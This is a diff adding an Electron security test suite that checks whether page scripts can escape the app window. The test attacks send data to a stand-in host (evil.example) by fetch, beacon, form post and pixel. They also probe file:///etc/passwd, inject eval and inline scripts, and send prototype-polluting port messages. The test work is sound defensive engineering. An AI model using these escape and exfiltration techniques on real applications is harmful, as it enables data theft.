@@ -1,0 +1,445 @@
+/**
+ * The desktop shell under attack, on the stand-in: scripts of the page itself try to get out. For each try: what main answered, and what Chromium
+ * did with it. Where Chromium refuses before it asks, main is asked by the test.
+ */
+import { readFileSync } from 'node:fs';
+import { rm, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { builtProgram, startProgram, type Program } from '../electron/stand-in/index.ts';
+import { openBrowser } from '../support/browser.ts';
+import * as at from '../support/counsellor.ts';
+import { newOfficeFolder, newWindow, storyDay, storyTime } from '../support/office-window.ts';
+
+let browser: Browser;
+let program: Program;
+let page: Page;
+let dir: string;
+
+/** What the page's scripts keep for a later try, under this name. */
+interface Loot {
+  /** The ports of the last load, taken as they went by. */
+  ports: Record<string, MessagePort>;
+  violations: string[];
+}
+
+beforeAll(async () => {
+  browser = await openBrowser();
+  dir = await newOfficeFolder();
+  program = await startProgram({
+    context: await newWindow(browser),
+    appPath: builtProgram(),
+    args: ['--dir', dir, '--today', storyDay],
+    prepare: async (fresh) => {
+      await fresh.clock.setFixedTime(storyTime);
+      await fresh.addInitScript(() => {
+        const loot: Loot = { ports: {}, violations: [] };
+        (globalThis as unknown as { loot: Loot }).loot = loot;
+        addEventListener('message', ({ data, ports: [port] }) => {
+          if (typeof data === 'string' && port !== undefined) loot.ports[data] = port;
+        });
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => { loot.violations.push(`${effectiveDirective} ${blockedURI.replace(/\/$/, '')}`); });
+      });
+    },
+  });
+  page = await program.firstWindow();
+  await at.setUpOffice(page);
+});
+
+afterAll(async () => {
+  await program?.close();
+  await browser?.close();
+  await rm(dir ?? '', { recursive: true, force: true });
+});
+
+const contents = () => {
+  const [window] = program.windows;
+  if (window === undefined) throw new Error('there is no window');
+  return window.webContents;
+};
+
+/** Every try ends where it began: with our page on the screen and no other one. */
+async function unharmed(): Promise<void> {
+  // Looked at, not waited for by its locator: that waits for a navigation that was begun and refused.
+  await expect.poll(() => page.getByRole('navigation', { name: 'Hauptbereiche' }).isVisible(), { timeout: 10_000 }).toBe(true);
+  expect(page.url()).toMatch(/^https:\/\/app\/(#.*)?$/);
+  expect(program.windows).toHaveLength(1);
+  await expect.poll(() => page.context().pages().length).toBe(1);
+  expect(program.problems).toEqual([]);
+}
+
+/**
+ * Runs `attack` as a script of the page: what `evaluate` runs stands above the policy, also what it clicks. So it only leaves a button behind, and
+ * the mouse clicks it. Answers what came of it, an error by its name.
+ */
+async function fromThePage<T>(attack: () => T | Promise<T>): Promise<T | string> {
+  await page.evaluate((source) => {
+    const act = (0, eval)(`(${source})`) as () => unknown;
+    const button = document.createElement('button');
+    button.id = 'attack';
+    button.textContent = 'attack';
+    Object.assign(button.style, { position: 'fixed', insetBlockStart: '0', insetInlineStart: '0', zIndex: '99', inlineSize: '200px', blockSize: '40px' });
+    button.addEventListener('click', () => {
+      const tried = (async () => act())().catch((problem: unknown) => (problem instanceof Error || problem instanceof DOMException ? problem.name : String(problem)));
+      (globalThis as unknown as { tried: Promise<unknown> }).tried = tried;
+    });
+    document.body.append(button);
+  }, attack.toString());
+  await page.mouse.click(12, 12);
+  const result = await page.evaluate(() => (globalThis as unknown as { tried: Promise<unknown> }).tried);
+  await page.evaluate(() => document.getElementById('attack')?.remove());
+  return result as T | string;
+}
+
+const violations = () => page.evaluate(() => (globalThis as unknown as { loot: Loot }).loot.violations);
+
+/** Questions about a navigation since the last look, with main's answers. */
+const asked = () => contents().asked.splice(0).map(({ event, url, allowed }) => `${event} ${url} ${allowed ? 'allowed' : 'refused'}`);
+
+beforeEach(async () => {
+  await page.evaluate(() => { (globalThis as unknown as { loot: Loot }).loot.violations = []; });
+  asked();
+});
+
+describe('the window has no powers', () => {
+  test('it lives on its own scheme, without Node, Electron or a way to send', async () => {
+    expect(await page.evaluate(() => location.protocol)).not.toBe('http:');
+    expect(contents().getURL()).toMatch(/^lotse:\/\/app\//);
+    const names = ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron', 'contextBridge', 'setImmediate'];
+    expect(await page.evaluate((powers) => powers.filter((name) => name in globalThis), names)).toEqual([]);
+    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => /lotse|electron|ipc|preload/i.test(name)))).toEqual([]);
+  });
+
+  test('it was opened closed: sandbox, isolation, no webview, no file by drag', () => {
+    expect(program.windows[0]?.options.webPreferences).toMatchObject({
+      sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInSubFrames: false, nodeIntegrationInWorker: false, webSecurity: true, webviewTag: false,
+      navigateOnDragDrop: false, allowRunningInsecureContent: false,
+    });
+    expect(program.app.acts).toContain('enableSandbox');
+    expect(program.schemes).toEqual([{ scheme: 'lotse', privileges: { standard: true, secure: true, supportFetchAPI: true } }]);
+  });
+});
+
+describe('a way out of the window', () => {
+  test('navigation: main refuses it, and the page stays', async () => {
+    await fromThePage(() => { location.href = 'https://evil.example/collect'; });
+    await expect.poll(asked).toEqual(['will-frame-navigate https://evil.example/collect refused']);
+    await fromThePage(() => { location.assign('http://127.0.0.1:9/'); });
+    await expect.poll(asked).toEqual(['will-frame-navigate http://127.0.0.1:9/ refused']);
+    expect(program.session().askedFor.filter(({ answer }) => answer === 'no network')).toEqual([]);
+    await unharmed();
+  });
+
+  test('navigation to what Chromium itself refuses a page: main would refuse it too', async () => {
+    for (const attack of [() => { location.href = 'file:///etc/passwd'; }, () => { location.href = 'data:text/html,<h1>evil</h1>'; }, () => { location.href = 'chrome://version'; }]) await fromThePage(attack);
+    await unharmed();
+    for (const url of ['file:///C:/Windows/win.ini', 'data:text/html,evil', 'chrome://version', 'javascript:alert(1)', 'about:blank', 'blob:https://evil.example/1', 'lotse://other/', 'lotse://app.evil.example/', 'ms-msdt:/id', 'search-ms:query=evil']) {
+      expect([url, contents().mayNavigate(url, null)]).toEqual([url, false]);
+    }
+  });
+
+  test('redirect: even an answer of our own scheme leads nowhere else', async () => {
+    const { handlers } = program.session();
+    const own = handlers.get('lotse');
+    if (own === undefined) throw new Error('main handles no scheme lotse');
+    handlers.set('lotse', (request) => (request.url.endsWith('/umweg') ? new Response(null, { status: 302, headers: { Location: 'https://evil.example/' } }) : own(request)));
+    await fromThePage(() => { location.href = '/umweg'; });
+    await expect.poll(asked).toEqual(['will-frame-navigate lotse://app/umweg allowed', 'will-navigate lotse://app/umweg allowed', 'will-redirect https://evil.example/ refused']);
+    handlers.set('lotse', own);
+    await unharmed();
+  });
+
+  test.each([
+    ['window.open', () => { window.open('https://evil.example/'); }],
+    ['window.open of our own page', () => { window.open('/'); }],
+    ['window.open without an opener', () => { window.open('https://evil.example/', '_blank', 'noopener,width=300'); }],
+    ['a link into a new window', () => {
+      const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' });
+      document.body.append(link);
+      link.click();
+      link.remove();
+    }],
+  ])('%s: denied, and there is no second window', async (_name, attack) => {
+    const before = contents().opened.length;
+    await fromThePage(attack);
+    await expect.poll(() => contents().opened.length).toBe(before + 1);
+    expect(contents().opened.at(-1)?.action).toBe('deny');
+    await unharmed();
+  });
+
+  test('form post: the policy refuses it, and main answers no POST', async () => {
+    await fromThePage(() => {
+      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+      form.append(Object.assign(document.createElement('input'), { name: 'name', value: 'Haydari' }));
+      document.body.append(form);
+      form.submit();
+      form.remove();
+    });
+    await expect.poll(violations).toEqual(['form-action https://evil.example']);
+    expect(asked()).toEqual([]);
+    const answer = await program.session().handlers.get('lotse')?.(new Request('lotse://app/', { method: 'POST', body: 'name=Haydari' }));
+    expect(answer?.status).toBe(404);
+    await unharmed();
+  });
+
+  test('a file dropped on the window is not opened', async () => {
+    const file = join(dir, 'dropped.html');
+    await writeFile(file, '<h1>evil</h1>');
+    const session = await page.context().newCDPSession(page);
+    const data = { items: [], files: [file], dragOperationsMask: 1 };
+    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', { type, x: 400, y: 400, data });
+    await session.detach();
+    await unharmed();
+    expect(contents().mayNavigate(`file://${file}`, null)).toBe(false);
+  });
+
+  test('addresses: whatever a page may ask for, main cancels what is not ours, and the policy lets it ask for less', async () => {
+    const results = await fromThePage(async () => {
+      const named = (problem: unknown): string => (problem as Error).name;
+      const fetched = await fetch('https://evil.example/').then(() => 'loaded', named);
+      const local = await fetch('http://127.0.0.1:9/').then(() => 'loaded', named);
+      const beacon = navigator.sendBeacon('https://evil.example/', 'Haydari');
+      const picture = await new Promise<string>((resolve) => {
+        const image = new Image();
+        image.onload = () => { resolve('loaded'); };
+        image.onerror = () => { resolve('refused'); };
+        image.src = 'https://evil.example/pixel.png';
+      });
+      const socket = await new Promise<string>((resolve) => {
+        try {
+          const line = new WebSocket('wss://evil.example/');
+          line.onopen = () => { resolve('open'); };
+          line.onerror = () => { resolve('refused'); };
+        } catch (problem) {
+          resolve(named(problem));
+        }
+      });
+      const worker = await navigator.serviceWorker.register('/assets/worker.js').then(() => 'registered', named);
+      return { fetched, local, beacon, picture, socket, worker };
+    });
+    expect(results).toMatchObject({ fetched: 'TypeError', local: 'TypeError', picture: 'refused' });
+    expect((results as { socket: string }).socket).not.toBe('open');
+    expect((results as { worker: string }).worker).not.toBe('registered');
+    const refused = await violations();
+    expect(refused.filter((one) => one.startsWith('connect-src')).length).toBeGreaterThanOrEqual(4);
+    expect(refused).toContain('img-src https://evil.example/pixel.png');
+    const cancels: unknown[] = [];
+    for (const url of ['https://evil.example/', 'http://127.0.0.1:9/', 'ws://127.0.0.1:9/', 'wss://evil.example/', 'file:///etc/passwd', 'ftp://evil.example/', 'lotse://other/', 'blob:https://evil.example/1', 'chrome://version']) {
+      program.session().beforeRequest?.({ url }, ({ cancel }) => cancels.push(cancel));
+    }
+    expect(cancels).toEqual(Array.from({ length: 9 }, () => true));
+    await unharmed();
+  });
+
+  test('downloads: main prevents them, whoever made the bytes', async () => {
+    await fromThePage(() => {
+      const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['evil'])), download: 'Rechnung.exe' });
+      document.body.append(link);
+      link.click();
+      link.remove();
+    });
+    await expect.poll(() => program.session().downloads.map(({ prevented }) => prevented)).toEqual([true]);
+    await unharmed();
+  });
+});
+
+describe('foreign code', () => {
+  test('eval, Function, text timers and inline scripts do not run', async () => {
+    const tried = await fromThePage(() => {
+      const marks: Record<string, string> = {};
+      const mark = (what: string, act: () => void): void => {
+        try {
+          act();
+          marks[what] = 'allowed';
+        } catch (problem) {
+          marks[what] = (problem as Error).name;
+        }
+      };
+      // eslint-disable-next-line no-eval -- the attack itself
+      mark('eval', () => void (0, eval)('globalThis.ranEval = true'));
+      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call, no-restricted-syntax -- the attack itself
+      mark('Function', () => void new Function('globalThis.ranFunction = true')());
+      mark('timer', () => void Reflect.apply(setTimeout, globalThis, ['globalThis.ranTimer = true', 0]));
+      mark('handler', () => { document.body.setAttribute('onmousemove', 'globalThis.ranHandler = true'); });
+      mark('script text', () => {
+        const script = document.createElement('script');
+        script.textContent = 'globalThis.ranInline = true';
+        document.head.append(script);
+      });
+      mark('markup', () => { document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.ranMarkup = true">'); });
+      mark('source', () => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.example/a.js';
+        document.head.append(script);
+      });
+      mark('policy', () => void (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('evil', {}));
+      return marks;
+    });
+    expect(tried).toMatchObject({ eval: 'EvalError', Function: 'EvalError', handler: 'TypeError', 'script text': 'TypeError', markup: 'TypeError', source: 'TypeError', policy: 'TypeError' });
+    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
+    await unharmed();
+  });
+
+  test('a javascript: link does nothing', async () => {
+    await page.evaluate(() => {
+      const link = Object.assign(document.createElement('a'), { href: 'javascript:globalThis.ranLink=true', textContent: 'link', id: 'link' });
+      Object.assign(link.style, { position: 'fixed', insetBlockStart: '0', insetInlineStart: '0', zIndex: '99', padding: '20px' });
+      document.body.append(link);
+    });
+    await page.mouse.click(12, 12);
+    await expect.poll(async () => (await violations()).map((one) => one.split(' ')[0])).toContain('script-src-elem');
+    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
+    await page.evaluate(() => document.getElementById('link')?.remove());
+    await unharmed();
+  });
+
+  test('a foreign frame is refused by the policy and by main; a frame the page makes itself runs nothing and hears no port', async () => {
+    const heard = await fromThePage(async () => {
+      const frames = [
+        Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }),
+        Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob(['<script>parent.ranInFrame = true</script>'], { type: 'text/html' })) }),
+      ];
+      document.body.append(...frames);
+      const messages: unknown[] = [];
+      frames[1]?.contentWindow?.addEventListener('message', ({ data }) => messages.push(data));
+      await new Promise((resolve) => { frames[1]?.addEventListener('load', resolve); });
+      await new Promise((resolve) => requestAnimationFrame(resolve));
+      for (const frame of frames) frame.remove();
+      return messages;
+    });
+    expect(heard).toEqual([]);
+    const refused = await violations();
+    expect(refused).toContain('frame-src https://evil.example');
+    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('ran')))).toEqual([]);
+    const [frame = null] = page.frames();
+    expect(frame).not.toBeNull();
+    for (const url of ['https://evil.example/', 'file:///etc/passwd', 'lotse://app/', 'data:text/html,evil', 'blob:https://evil.example/1']) {
+      expect([url, contents().asks('will-frame-navigate', { url, isMainFrame: false })]).toEqual([url, false]);
+    }
+    await unharmed();
+  });
+});
+
+/** Every permission Electron 45 names. */
+const permissions = [
+  'ar', 'automatic-fullscreen', 'background-fetch', 'background-sync', 'captured-surface-control', 'clipboard-read', 'clipboard-sanitized-write', 'deprecated-sync-clipboard-read', 'display-capture',
+  'fileSystem', 'fullscreen', 'geolocation', 'geolocation-approximate', 'hand-tracking', 'hid', 'idle-detection', 'keyboardLock', 'local-fonts', 'local-network', 'local-network-access',
+  'loopback-network', 'media', 'mediaKeySystem', 'midi', 'midiSysex', 'nfc', 'notifications', 'openExternal', 'payment-handler', 'periodic-background-sync', 'persistent-storage', 'pointerLock',
+  'screen-wake-lock', 'sensors', 'serial', 'smart-card', 'speaker-selection', 'storage-access', 'system-wake-lock', 'top-level-storage-access', 'usb', 'vr', 'web-app-installation', 'web-printing',
+  'window-management', 'unknown',
+];
+
+describe('permissions', () => {
+  test('main says no to each that Electron knows, asked or looked up', () => {
+    const session = program.session();
+    expect(permissions.filter((one) => {
+      const { checked, requested } = session.mayUse(contents(), one, 'lotse://app');
+      return checked || requested;
+    })).toEqual([]);
+  });
+
+  test('no device, no screen, no certificate of a client, no webview', () => {
+    const session = program.session();
+    for (const deviceType of ['hid', 'serial', 'usb']) expect(session.devicePermission?.({ deviceType, origin: 'lotse://app', device: {} })).toBe(false);
+    const streams: unknown[] = [];
+    session.displayMedia?.({}, (given) => streams.push(given));
+    expect(streams).toEqual([{}]);
+    let attached = true;
+    contents().emit('will-attach-webview', { preventDefault: () => { attached = false; } }, {}, {});
+    expect(attached).toBe(false);
+    const trusted: boolean[] = [];
+    program.app.emit('certificate-error', { preventDefault: () => undefined }, contents(), 'https://evil.example/', 'net::ERR_CERT_AUTHORITY_INVALID', {}, (trust: boolean) => { trusted.push(trust); });
+    expect(trusted).toEqual([false]);
+  });
+
+  test('what a page asks for is refused to it', async () => {
+    const tried = await fromThePage(async () => {
+      const named = (problem: unknown): string => (problem as Error).name;
+      const location = await new Promise<string>((resolve) => { navigator.geolocation.getCurrentPosition(() => { resolve('granted'); }, () => { resolve('refused'); }); });
+      const camera = await navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => 'granted', named);
+      const clipboard = await navigator.clipboard.readText().then(() => 'granted', named);
+      const notifications = await Notification.requestPermission();
+      return { location, camera, clipboard, notifications };
+    });
+    expect(tried).toMatchObject({ location: 'refused' });
+    expect(Object.values(tried)).not.toContain('granted');
+    await unharmed();
+  });
+});
+
+describe('ports', () => {
+  const notes = () => readFileSync(join(program.app.getPath('userData'), 'notes.log'), 'utf8');
+
+  /** Says something through a port of this load, and waits until it is answered or closed. */
+  const say = (channel: string, what: 'unknown procedure' | 'no words' | 'an object' | 'prototype' | '100 MB') =>
+    page.evaluate(
+      ({ channel: name, what: kind }) =>
+        new Promise<string>((resolve) => {
+          const port = (globalThis as unknown as { loot: Loot }).loot.ports[name];
+          if (port === undefined) {
+            resolve('no port');
+            return;
+          }
+          port.addEventListener('close', () => { resolve('closed'); });
+          port.addEventListener('message', ({ data }: MessageEvent<unknown>) => {
+            const text = typeof data === 'string' ? data : '';
+            if (text.includes('"i":"9001"') || text.includes('9001')) resolve(text);
+          });
+          const message = (path: string): string => JSON.stringify({ i: '9001', p: { u: `http://orpc/${path}`, b: '{"json":{}}' } });
+          if (kind === 'unknown procedure') port.postMessage(message('files/eraseEverything'));
+          else if (kind === 'prototype') port.postMessage(message('__proto__/constructor'));
+          else if (kind === 'no words') port.postMessage('{"half');
+          else if (kind === 'an object') port.postMessage({ id: 1, path: ['about'] });
+          else port.postMessage('x'.repeat(100_000_000));
+        }),
+      { channel, what },
+    );
+
+  /** A load of its own, as after „Neu laden“: with ports that nobody has misused yet. */
+  const loadAgain = async (): Promise<void> => {
+    contents().reload();
+    await expect.poll(() => page.evaluate(() => Object.keys((globalThis as unknown as { loot?: Loot }).loot?.ports ?? {}).toSorted()).catch(() => []), { timeout: 30_000 }).toEqual(['lotse:core', 'lotse:shell']);
+    await page.getByRole('heading', { name: 'Entsperren' }).waitFor();
+  };
+
+  test('each load gets one port of each kind', async () => {
+    await loadAgain();
+    await at.unlock(page);
+    await unharmed();
+  });
+
+  test('an undeclared channel is heard by nobody: the preload forwards two', async () => {
+    const { bridge } = contents();
+    bridge.post('lotse:admin', { do: 'anything' }, []);
+    await page.evaluate(() => new Promise((resolve) => { requestAnimationFrame(resolve); }));
+    expect(await page.evaluate(() => Object.keys((globalThis as unknown as { loot: Loot }).loot.ports).toSorted())).toEqual(['lotse:core', 'lotse:shell']);
+    // The other way round there is none: nothing in the page can send, and main listens to nothing.
+    for (const event of ['ipc-message'] as const) expect(contents().listenerCount(event)).toBe(0);
+  });
+
+  for (const channel of ['lotse:shell', 'lotse:core'] as const) {
+    for (const what of ['unknown procedure', 'prototype'] as const) {
+      test(`${channel}: ${what} is answered with NOT_FOUND, or the port is closed`, async () => {
+        expect(await say(channel, what)).toMatch(/NOT_FOUND|^closed$/);
+        await loadAgain();
+      });
+    }
+
+    for (const what of ['no words', 'an object', '100 MB'] as const) {
+      test(`${channel}: ${what} closes the port; program and core go on`, async () => {
+        const [core] = program.processes;
+        expect(await say(channel, what)).toBe('closed');
+        expect(notes()).toMatch(channel === 'lotse:shell' ? /SHELL_MESSAGE_REFUSED/ : /WINDOW_CUT_OFF/);
+        expect(core?.pid).toBeDefined();
+        await loadAgain();
+        await at.unlock(page);
+        await unharmed();
+      });
+    }
+  }
+
+  test('nothing of all this is noted with a word of it', () => {
+    expect(notes()).not.toMatch(/evil|Haydari|xxxx/);
+  });
+});
